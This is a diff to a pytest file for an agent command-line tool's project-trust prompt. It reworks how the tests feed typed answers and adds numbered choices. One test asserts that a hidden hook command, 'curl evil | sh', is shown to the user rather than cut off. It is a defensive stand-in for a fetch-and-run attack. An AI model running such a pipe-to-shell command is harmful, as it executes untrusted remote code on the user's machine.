@@ -2,12 +2,16 @@
 
 import asyncio
 import json
+import os
 from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
 
 from hookline import Engine
+from hookline.agent.front import Choice
+from hookline.cli.commands.agent.conversation import LineAsker, LineInput
+from hookline.cli.commands.agent.plain import LineFront, ProgressLines
 from hookline.cli.commands.agent.trust_question import Answer, ask_about
 from hookline.cli.commands.agent.untrusted import Waiting, waiting_in
 from hookline.config.trust.trust import Options
@@ -20,7 +24,7 @@ hooks = [{ command = "sh start.sh" }]
 """
 _MINE = '[[hooks.SessionStart]]\nhooks = [{ command = "touch mine" }]\n'
 _WORDS = ["agent", "--model", "scripted:script.json"]
-_QUESTION = "trust it? s(how all of it), y(es), n(o), f(or this session)"
+_QUESTION = "4 show all of it"
 
 
 class Project:
@@ -87,27 +91,43 @@ def test_one_answer_trusts_a_project_and_a_change_is_asked_about_with_its_differ
     assert (project.root / "mine").exists()
 
 
-def _asked(waiting: Waiting, *typed: str | None) -> tuple[Answer, list[str]]:
-    lines, said = list(typed), list[str]()
+class Asked(LineFront):
+    """The front of a conversation whose lines are typed already."""
 
-    async def line(question: str) -> str | None:
-        said.append(question)
-        return lines.pop(0)
+    def __init__(self, typed: Sequence[str]) -> None:
+        theirs, ours = os.pipe()
+        os.write(ours, "".join(f"{line}\n" for line in typed).encode())
+        os.close(ours)
+        super().__init__(LineInput(theirs), ProgressLines())
+        self.said: list[str] = []
+        self._asks = LineAsker(LineInput(theirs), self.said.append)
 
-    return asyncio.run(ask_about(waiting, line, said.append)), said
+    def note(self, text: str) -> None:
+        self.said.append(text)
+
+    async def choose(self, title: str, body: Sequence[str], choices: Sequence[Choice]) -> str | None:
+        return await self._asks.choose(title, body, choices)
+
+
+def _asked(waiting: Waiting, *typed: str) -> tuple[Answer, list[str]]:
+    front = Asked(typed)
+    return asyncio.run(ask_about(waiting, front)), front.said
 
 
 @pytest.mark.parametrize(
     ("typed", "answer"),
     [
-        ((None,), "no"),
+        ((), "no"),
         (("N",), "no"),
+        (("3",), "no"),
+        (("1",), "yes"),
+        (("2",), "session"),
         (("fix the bug", "", "maybe", "yes please", "y y"), "no"),
         (("what?", " Yes "), "yes"),
         (("f",), "session"),
     ],
 )
-def test_only_a_clear_answer_counts(project: Project, typed: Sequence[str | None], answer: Answer) -> None:
+def test_only_a_clear_answer_counts(project: Project, typed: Sequence[str], answer: Answer) -> None:
     waiting = project.waiting()
     assert _asked(waiting, *typed)[0] == answer
     again = project.waiting()
@@ -121,7 +141,7 @@ def test_nobody_agrees_to_what_was_cut_off(project: Project) -> None:
     answer, said = _asked(waiting, "y", "y")
     assert answer == "yes"
     assert "curl evil" not in said[0]
-    assert "curl evil | sh" in said[2]
+    assert "curl evil | sh" in said[1]
 
 
 def test_a_store_that_cannot_be_written_means_for_this_session(project: Project) -> None:
@@ -162,7 +182,7 @@ def test_settings_are_shown_with_their_values_and_servers_with_the_variables_the
     project.write(".mcp.json", '{"mcpServers": {"far": {"url": "http://h/${KEY}"}}}')
     _, said = _asked(project.waiting(), "n")
     assert 'settings .hookline/settings.toml:1: agent.local_hosts ["h"]; allow ["Bash"]\n' in said[0]
-    assert said[0].endswith("server .mcp.json:1 far: http://h/${KEY}; gets $KEY of your environment")
+    assert "server .mcp.json:1 far: http://h/${KEY}; gets $KEY of your environment\n" in said[0]
 
 
 def test_hooks_of_skills_are_part_of_the_question(project: Project) -> None:
